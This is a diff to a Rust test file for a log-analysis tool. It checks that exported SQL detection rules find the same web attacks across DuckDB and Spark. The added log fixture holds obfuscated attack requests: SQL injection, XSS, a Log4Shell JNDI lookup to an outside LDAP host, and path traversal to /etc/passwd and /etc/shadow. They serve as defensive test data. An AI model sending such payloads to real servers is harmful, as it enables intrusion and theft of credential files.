@@ -33,6 +33,8 @@ fn key(f: &serde_json::Value) -> Key {
 #[test]
 fn exported_rules_are_plain_sql_for_each_dialect() {
     let dir = tempfile::tempdir().unwrap();
+    // A placeholder left unfilled (`{name}`, `{name - 1}`); a regex's `\{` is no placeholder.
+    let placeholder = regex::Regex::new(r"\{\s*[a-z_]+\s*([-+*]\s*\d+\s*)?\}").unwrap();
     for dialect in ["spark", "duckdb", "trino", "polars"] {
         let out = dir.path().join(dialect);
         let said = ok(&["rules", "export", "--dialect", dialect, "--out", out.to_str().unwrap()]);
@@ -48,7 +50,7 @@ fn exported_rules_are_plain_sql_for_each_dialect() {
         for r in rules {
             let sql = std::fs::read_to_string(out.join(r["file"].as_str().unwrap())).unwrap();
             let body: String = sql.lines().filter(|l| !l.starts_with("--")).collect::<Vec<_>>().join("\n");
-            assert!(!body.contains('{'), "{dialect} {}: a parameter left unfilled", r["file"]);
+            assert!(!placeholder.is_match(&body), "{dialect} {}: a parameter left unfilled", r["file"]);
             match dialect {
                 "spark" => assert!(!body.contains("INTERVAL '"), "{body}"),
                 "trino" => assert!(!body.contains("minutes'") && !body.contains("hours'"), "{body}"),
@@ -69,13 +71,79 @@ fn exported_rules_are_plain_sql_for_each_dialect() {
 /// sample case and checks that its findings are logsleuth's for every exported rule.
 fn same_findings_on(engine: &str, dialect: &str, script: &str, env: &[(&str, &str)]) {
     let (dir, case) = sample_case("run");
-    let rules = dir.path().join("rules");
+    same_findings_in(&dir, &case, engine, dialect, script, env, 6);
+}
+
+/// Web attacks written the ways attackers hide them, in Apache's combined log format
+/// (`%h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-agent}i"`): double and digit-wise
+/// percent-encoding, `+` for spaces, a stray `%`, mixed case, an encoded backslash, `${jndi:`
+/// braces, quotes. Each engine must find what logsleuth finds, regexes and literals included.
+fn hostile_web_case() -> (tempfile::TempDir, std::path::PathBuf) {
+    let dir = tempfile::tempdir().unwrap();
+    let requests = [
+        ("203.0.113.7", "/p?id=1%2527%2520OR%25201%253D1", 200),
+        ("203.0.113.7", "/search?q=%3CScRiPt%3Ealert(1)%3C%2Fscript%3E", 200),
+        ("203.0.113.8", "/?x=%24%7Bjndi:ldap://198.51.100.9/a%7D", 400),
+        ("203.0.113.8", "/cgi-bin/..%5C..%5Cwindows%5Cwin.ini", 404),
+        ("203.0.113.9", "/p?q=a%ZZ+UNION+select+1", 500),
+        ("203.0.113.9", "/index.php?page=%252e%252e%252fetc%252fpasswd", 200),
+        ("203.0.113.9", "/a%%32%65%%32%65%2fetc/shadow", 404),
+        ("203.0.113.10", "/wp-login.php", 200),
+        ("203.0.113.10", "/p?q=it%27s+fine", 200),
+        ("203.0.113.11", "/products?page=2&sort=price", 200),
+    ];
+    let mut log = String::new();
+    for (i, (ip, url, status)) in requests.iter().enumerate() {
+        log += &format!(
+            "{ip} - - [01/Dec/2026:10:{i:02}:00 +0000] \"GET {url} HTTP/1.1\" {status} 512 \"-\" \"Mozilla/5.0 (X11; Linux x86_64)\"\n"
+        );
+    }
+    write(dir.path(), "ev/web01/var/log/apache2/access.log", log.as_bytes());
+    let case = dir.path().join("case");
+    ok(&["ingest", dir.path().join("ev").to_str().unwrap(), "--case", case.to_str().unwrap(), "-q"]);
+    ok(&["detect", "--case", case.to_str().unwrap(), "-q"]);
+    let doc: serde_json::Value = serde_json::from_slice(&std::fs::read(case.join("findings.json")).unwrap()).unwrap();
+    let attacks: Vec<&str> = doc["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["rule"] == "web_attack")
+        .map(|f| f["source_ip"].as_str().unwrap())
+        .collect();
+    assert_eq!(attacks.len(), 4, "{attacks:?}");
+    (dir, case)
+}
+
+#[test]
+fn hidden_web_attacks_are_found_alike_on_duckdb_and_spark() {
+    let (dir, case) = hostile_web_case();
+    if python_has("duckdb") {
+        same_findings_in(&dir, &case, "DuckDB", "duckdb", "scale/duckdb/detect.py", &[], 1);
+    }
+    if python_has("pyspark") && has_java() {
+        let env = [("SPARK_MASTER", "local[2]"), ("SPARK_SHUFFLE_PARTITIONS", "2")];
+        same_findings_in(&dir, &case, "Spark", "spark", "scale/spark/detect.py", &env, 1);
+    }
+}
+
+/// Runs `script CASE RULES OUT` on `case` and checks its findings are logsleuth's for every
+/// exported rule, with findings of at least `min_rules` rules.
+fn same_findings_in(
+    dir: &tempfile::TempDir,
+    case: &Path,
+    engine: &str,
+    dialect: &str,
+    script: &str,
+    env: &[(&str, &str)],
+    min_rules: usize,
+) {
+    let rules = dir.path().join(format!("rules-{dialect}"));
     ok(&["rules", "export", "--dialect", dialect, "--out", rules.to_str().unwrap()]);
-    let out = dir.path().join("findings.jsonl");
+    let out = dir.path().join(format!("findings-{dialect}.jsonl"));
     let script = Path::new(env!("CARGO_MANIFEST_DIR")).join(script);
     let run = std::process::Command::new("python3")
         .arg(script)
-        .arg(&case)
+        .arg(case)
         .arg(&rules)
         .arg(&out)
         .envs(env.iter().copied())
@@ -101,7 +169,7 @@ fn same_findings_on(engine: &str, dialect: &str, script: &str, env: &[(&str, &st
     for f in &theirs {
         by_rule.entry(f["rule"].as_str().unwrap().into()).or_default().1.push(key(f));
     }
-    assert!(by_rule.len() >= 6, "rules with findings on the sample: {:?}", by_rule.keys());
+    assert!(by_rule.len() >= min_rules, "rules with findings: {:?}", by_rule.keys());
     for (rule, (mut a, mut b)) in by_rule {
         a.sort();
         b.sort();
@@ -115,7 +183,7 @@ fn same_findings_on(engine: &str, dialect: &str, script: &str, env: &[(&str, &st
         t
     };
     let theirs_ref: Vec<&serde_json::Value> = theirs.iter().collect();
-    for rule in ["ssh_bruteforce", "web_scan", "password_spraying"] {
+    for rule in ["ssh_bruteforce", "web_scan", "password_spraying", "web_attack"] {
         assert_eq!(title(&ours, rule), title(&theirs_ref, rule), "{engine}: titles of {rule}");
     }
 }
